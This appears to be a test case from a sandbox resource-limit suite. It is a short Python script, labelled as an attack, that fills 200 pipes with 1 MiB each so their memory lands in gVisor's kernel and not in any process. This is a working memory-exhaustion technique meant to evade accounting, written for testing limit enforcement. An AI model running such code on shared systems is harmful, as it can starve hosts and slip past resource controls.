# verdict: FAILED
# cause: MEMORY_LIMIT
# fault: PROGRAM
# attack: fills pipes, whose bytes are in gVisor's own memory and in no process
# limits: memory_bytes=33554432 open_files_max=512 cpu_time_ms=20000 wall_time_ms=60000
import fcntl
import os

keep = []
for _ in range(200):
    read, write = os.pipe()
    fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 1 << 20)
    os.set_blocking(write, False)
    keep.append(os.write(write, bytes(1 << 20)))
